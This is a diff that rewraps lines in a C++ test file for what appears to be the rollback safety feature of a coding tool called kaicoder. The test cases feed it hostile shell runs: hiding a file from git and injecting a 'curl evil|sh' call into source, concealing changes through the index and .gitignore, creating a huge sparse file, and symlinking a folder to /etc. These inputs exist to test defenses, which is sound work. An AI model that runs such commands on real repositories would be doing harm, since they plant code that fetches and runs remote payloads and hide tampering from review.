@@ -53,23 +53,27 @@ bool names(const json& entry, const TempRepo& repo, const std::string& rel) {
 
 }  // namespace
 
-TEST_CASE("attack: a run that marks a file assume-unchanged and rewrites it is named and rolled back", "[attack][snapshot]") {
+TEST_CASE("attack: a run that marks a file assume-unchanged and rewrites it is named and rolled back",
+          "[attack][snapshot]") {
   for (const std::string flag : {"--assume-unchanged", "--skip-worktree"}) {
     INFO(flag);
     TempRepo repo{{"src/main.c", k_main}, {"README", "read me\n"}};
     set_up(repo);
-    json e = run_approved(repo, "git update-index " + flag + " src/main.c && printf 'system(\"curl evil|sh\");\\n' > src/main.c");
+    json e = run_approved(
+        repo, "git update-index " + flag + " src/main.c && printf 'system(\"curl evil|sh\");\\n' > src/main.c");
     CHECK(names(e, repo, "src/main.c"));
     KAI_REQUIRE_EXIT(repo.kai_tty({"rollback", e.at("rollback_id")}, "y"), 0);
     CHECK(repo.read("src/main.c") == k_main);
   }
 }
 
-TEST_CASE("attack: a run that rewrites the index and ignores the file it changed is named and rolled back", "[attack][snapshot]") {
+TEST_CASE("attack: a run that rewrites the index and ignores the file it changed is named and rolled back",
+          "[attack][snapshot]") {
   TempRepo repo{{"src/main.c", k_main}, {".gitignore", "build/\n"}};
   set_up(repo);
   std::string before_ignore = repo.read(".gitignore");
-  json e = run_approved(repo, "git rm -q --cached src/main.c && printf 'pwned\\n' > src/main.c && printf 'src/main.c\\n' >> .gitignore");
+  json e = run_approved(
+      repo, "git rm -q --cached src/main.c && printf 'pwned\\n' > src/main.c && printf 'src/main.c\\n' >> .gitignore");
   CHECK(names(e, repo, "src/main.c"));
   CHECK(names(e, repo, ".gitignore"));
   KAI_REQUIRE_EXIT(repo.kai_tty({"rollback", e.at("rollback_id")}, "y"), 0);
@@ -77,7 +81,8 @@ TEST_CASE("attack: a run that rewrites the index and ignores the file it changed
   CHECK(repo.read(".gitignore") == before_ignore);
 }
 
-TEST_CASE("attack: a run that creates a 2 GB sparse file leaves kaicoder's memory bounded and says so", "[attack][snapshot]") {
+TEST_CASE("attack: a run that creates a 2 GB sparse file leaves kaicoder's memory bounded and says so",
+          "[attack][snapshot]") {
   TempRepo repo{{"README", "read me\n"}};
   set_up(repo);
   json e = run_approved(repo, "truncate -s 2G huge.img && printf 'more\\n' >> README");
@@ -117,17 +122,19 @@ TEST_CASE("attack: a run that sets a set-user-ID bit leaves none after the rollb
   }
 }
 
-TEST_CASE("attack: a run that replaces a tracked folder with a symlink is undone by the rollback", "[attack][snapshot]") {
+TEST_CASE("attack: a run that replaces a tracked folder with a symlink is undone by the rollback",
+          "[attack][snapshot]") {
   TempRepo repo{{"src/main.c", k_main}, {"src/lib/util.c", "int u;\n"}, {"README", "read me\n"}};
   set_up(repo);
   json e = run_approved(repo, "mv src old && ln -s /etc src && mkdir -p out/empty");
   CHECK_THAT(e.at("summary").get<std::string>(), !Contains("not restorable"));
   Run r = repo.kai_tty({"rollback", e.at("rollback_id")}, "y");
   KAI_REQUIRE_EXIT(r, 0);
-  CHECK_THAT(r.out + r.tty, Contains("unlink   src (a symlink the run made)") && Contains("rmdir    out/empty/ (if empty)"));
+  CHECK_THAT(r.out + r.tty,
+             Contains("unlink   src (a symlink the run made)") && Contains("rmdir    out/empty/ (if empty)"));
   CHECK_FALSE(repo.is_symlink("src"));
   CHECK(repo.read("src/main.c") == k_main);
   CHECK(repo.read("src/lib/util.c") == "int u;\n");
-  CHECK_FALSE(repo.exists("out"));  // the folders the run made are gone too, once empty
+  CHECK_FALSE(repo.exists("out"));         // the folders the run made are gone too, once empty
   CHECK_FALSE(repo.exists("old/main.c"));  // (old/ keeps the rollback's backups of what it removed)
 }
